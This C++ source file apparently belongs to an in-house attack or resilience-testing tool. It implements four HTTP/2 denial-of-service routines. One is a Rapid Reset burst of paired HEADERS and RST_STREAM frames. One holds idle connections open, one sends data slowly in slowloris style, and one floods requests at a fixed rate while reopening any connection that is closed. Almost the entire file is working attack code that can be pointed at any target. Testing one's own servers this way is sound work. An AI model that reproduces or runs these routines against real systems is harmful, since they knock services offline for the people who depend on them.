#include "tools/attack/attackers.h"

#include <optional>
#include <thread>

namespace talentcard::attack {
namespace {

using std::chrono::steady_clock;

constexpr int kResetsAtOnce = 100;
constexpr uint32_t kLastStream = 0x7FFFFFFF;
constexpr auto kTick = std::chrono::milliseconds(10);
constexpr auto kSlow = std::chrono::milliseconds(500);

bool Over(Deadline end) { return steady_clock::now() >= end; }

// A connection that has said hello; one that is opened anew when it was closed,
// for as long as it takes.
class Persistent {
 public:
  Persistent(const Target& target, Deadline end, Counts& counts)
      : target_(target), end_(end), counts_(counts) {}

  // nullptr when time is over.
  Connection* Get() {
    while (!open_ && !Over(end_)) {
      absl::StatusOr<Connection> opened = Connection::Open(target_);
      if (opened.ok() && opened->Send(Hello())) {
        open_ = *std::move(opened);
        next_stream_ = 1;
        ++counts_.connections;
      } else {
        std::this_thread::sleep_for(kTick);
      }
    }
    return open_ ? &*open_ : nullptr;
  }
  uint32_t NextStream() {
    ++counts_.streams;
    const uint32_t stream = next_stream_;
    next_stream_ += 2;
    return stream;
  }
  void Sent(bool ok) {
    if (ok && next_stream_ < kLastStream - 2 * kResetsAtOnce) return;
    ++counts_.closed;
    open_.reset();
  }

 private:
  const Target& target_;
  const Deadline end_;
  Counts& counts_;
  std::optional<Connection> open_;
  uint32_t next_stream_ = 1;
};

}  // namespace

void ResetRapidly(const Target& target, const Call& call, Deadline end,
                  Counts& counts) {
  const std::string headers = CallHeaders(call.path, call.metadata);
  Persistent persistent(target, end, counts);
  while (!Over(end)) {
    Connection* connection = persistent.Get();
    if (connection == nullptr) return;
    std::string burst;
    for (int i = 0; i < kResetsAtOnce; ++i) {
      const uint32_t stream = persistent.NextStream();
      burst += HeadersFrame(stream, headers) + ResetFrame(stream);
    }
    persistent.Sent(connection->Send(burst));
  }
}

void StayIdle(const Target& target, int connections, Deadline end,
              Counts& counts) {
  std::vector<Connection> held;
  for (int i = 0; i < connections && !Over(end); ++i) {
    absl::StatusOr<Connection> opened = Connection::OpenSilent(target);
    if (!opened.ok()) continue;
    held.push_back(*std::move(opened));
    ++counts.connections;
  }
  std::this_thread::sleep_until(end);
  for (Connection& connection : held) counts.closed += !connection.Drain();
}

void SendSlowly(const Target& target, const Call& call, int connections,
                int streams, Deadline end, Counts& counts) {
  const std::string headers = CallHeaders(call.path, call.metadata);
  const std::string message = Message(call.message);
  std::vector<std::optional<Connection>> held(static_cast<size_t>(connections));
  for (size_t sent = 0; !Over(end); ++sent) {
    for (std::optional<Connection>& one : held) {
      if (Over(end)) return;
      std::string bytes;
      if (!one) {
        absl::StatusOr<Connection> opened = Connection::Open(target);
        if (!opened.ok()) continue;
        one = *std::move(opened);
        ++counts.connections;
        counts.streams += streams;
        bytes = Hello();
        for (int i = 0; i < streams; ++i)
          bytes += HeadersFrame(static_cast<uint32_t>(2 * i + 1), headers);
      } else {
        for (int i = 0; i < streams; ++i)
          bytes += DataFrame(static_cast<uint32_t>(2 * i + 1),
                             message.substr(sent % message.size(), 1), false);
      }
      if (one->Send(bytes)) continue;
      ++counts.closed;
      one.reset();
    }
    std::this_thread::sleep_until(std::min(end, steady_clock::now() + kSlow));
  }
}

void Overload(const Target& target, const Call& call, double per_second,
              Deadline end, Counts& counts) {
  const std::string headers = CallHeaders(call.path, call.metadata);
  const std::string message = Message(call.message);
  Persistent persistent(target, end, counts);
  const auto begin = steady_clock::now();
  double made = 0;
  while (!Over(end)) {
    Connection* connection = persistent.Get();
    if (connection == nullptr) return;
    const double due =
        per_second *
        std::chrono::duration<double>(steady_clock::now() - begin).count();
    std::string burst;
    for (; made < due && burst.size() < 65536; ++made) {
      const uint32_t stream = persistent.NextStream();
      burst += HeadersFrame(stream, headers) + DataFrame(stream, message, true);
    }
    persistent.Sent(burst.empty() ? connection->Drain()
                                  : connection->Send(burst));
    std::this_thread::sleep_for(kTick);
  }
}

}  // namespace talentcard::attack
